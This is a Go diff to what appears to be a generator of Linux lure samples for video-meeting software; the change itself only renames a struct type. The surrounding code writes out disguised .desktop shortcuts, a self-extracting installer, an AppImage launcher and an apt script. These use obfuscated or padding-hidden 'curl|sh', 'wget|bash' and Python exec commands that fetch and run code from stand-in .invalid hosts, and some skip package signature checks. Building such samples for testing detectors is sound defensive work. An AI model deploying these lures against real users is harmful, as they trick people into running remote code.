@@ -14,7 +14,7 @@ func (b *kit) freshLinux() {
 	lin("desktop", "shortcut", "base64", "Meeting Room.desktop", "[Desktop Entry]\nType=Application\nName=Meeting Room\nIcon=camera-video\nExec=sh -c \"echo "+b64("curl -s https://meeting-room-desk.invalid/m|sh")+"|base64 -d|sh\"\nTerminal=false\n", "curl -s https://meeting-room-desk.invalid/m|sh")
 	lin("desktop", "shortcut", "python", "Interview.pdf.desktop", "[Desktop Entry]\nType=Application\nName=Interview.pdf\nIcon=application-pdf\nExec=python3 -c \"import urllib.request as u;exec(u.urlopen('https://interview-desk.invalid/i').read())\"\nTerminal=false\n")
 	lin("desktop", "shortcut", "padding", "Recording.desktop", "[Desktop Entry]\nType=Application\nName=Recording\n"+strings.Repeat("# \n", 200)+"Exec=bash -c 'wget -qO- recording-desk.invalid/r|bash'\nIcon=video-x-generic\n")
-	lin("installer", "shell", "self-extracting", "webex-linux-8.7.run", "#!/bin/sh\n# Webex for Linux\nskip=7\nt=$(mktemp -d)\ntail -n +$skip \"$0\" | base64 -d | tar -xz -C $t 2>/dev/null; sh $t/install.sh\nexit 0\n"+b64(string(gzipped(tarball(entry{"install.sh", "wget -qO- https://webex-run.invalid/w | sh\n"}))))+"\n", "wget -qO- https://webex-run.invalid/w | sh")
+	lin("installer", "shell", "self-extracting", "webex-linux-8.7.run", "#!/bin/sh\n# Webex for Linux\nskip=7\nt=$(mktemp -d)\ntail -n +$skip \"$0\" | base64 -d | tar -xz -C $t 2>/dev/null; sh $t/install.sh\nexit 0\n"+b64(string(gzipped(tarball(item{"install.sh", "wget -qO- https://webex-run.invalid/w | sh\n"}))))+"\n", "wget -qO- https://webex-run.invalid/w | sh")
 	lin("installer", "shell", "AppImage by name", "Zoom-6.5.AppImage", "#!/bin/bash\n# AppImage launcher\nd=$HOME/.cache/zm; mkdir -p $d\nwget -q https://zoom-appimage.invalid/z -O $d/z && chmod +x $d/z && $d/z &\n")
 	lin("apt", "shell", "trusted source", "install-meetings.sh", "#!/bin/sh\n# adds the repository of the meeting client\necho 'deb [trusted=yes] https://apt.meeting-client-l.invalid ./' | sudo tee /etc/apt/sources.list.d/meeting.list\nsudo apt-get update -qq && sudo apt-get install -y --allow-unauthenticated meeting-client\n")
 	lin("flatpak", "ini", "flatpakref", "us.zoom.Zoom.flatpakref", "[Flatpak Ref]\nName=us.zoom.Zoom\nBranch=stable\nTitle=Zoom\nUrl=https://flat.zoom-hub.invalid/repo/\nRuntimeRepo=https://flat.zoom-hub.invalid/rt.flatpakrepo\nIsRuntime=false\nGPGKey=\n")
@@ -44,9 +44,9 @@ func percentX(s string) string {
 
 // debFile makes a Debian package with an install script.
 func debFile(name, maintainer, postinst string) []byte {
-	control := tarball(entry{"./control", "Package: " + name + "\nVersion: 1.0\nArchitecture: all\nMaintainer: " + maintainer + "\nDescription: client for calls\n"}, entry{"./postinst", postinst})
+	control := tarball(item{"./control", "Package: " + name + "\nVersion: 1.0\nArchitecture: all\nMaintainer: " + maintainer + "\nDescription: client for calls\n"}, item{"./postinst", postinst})
 	out := bytes.NewBufferString("!<arch>\n")
-	for _, m := range []entry{{"debian-binary", "2.0\n"}, {"control.tar.gz", string(gzipped(control))}, {"data.tar.gz", string(gzipped(tarball()))}} {
+	for _, m := range []item{{"debian-binary", "2.0\n"}, {"control.tar.gz", string(gzipped(control))}, {"data.tar.gz", string(gzipped(tarball()))}} {
 		fmt.Fprintf(out, "%-16s%-12d%-6d%-6d%-8s%-10d`\n%s", m.name, 0, 0, 0, "100644", len(m.data), m.data)
 		if len(m.data)%2 == 1 {
 			out.WriteByte('\n')
